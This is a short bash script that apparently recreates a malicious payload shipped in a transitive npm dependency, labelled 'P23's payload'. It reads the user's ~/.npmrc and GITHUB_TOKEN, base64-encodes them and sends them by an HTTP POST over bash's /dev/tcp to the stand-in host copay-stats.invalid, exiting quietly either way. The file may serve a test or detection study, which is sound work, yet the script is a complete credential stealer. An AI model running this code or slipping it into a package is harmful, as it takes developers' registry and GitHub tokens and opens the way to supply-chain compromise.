#!/bin/bash
# P23's payload in a new transitive dependency: ~/.npmrc and GITHUB_TOKEN, base64'd, POSTed over
# bash's /dev/tcp to a reserved name.
data=$( { cat "$HOME/.npmrc"; echo "gh=$GITHUB_TOKEN"; } 2>/dev/null | base64 -w0)
exec 3<>/dev/tcp/copay-stats.invalid/80 || exit 0
printf 'POST /f HTTP/1.1\r\nHost: copay-stats.invalid\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "${#data}" "$data" >&3
timeout 3 cat <&3 > /dev/null
exit 0
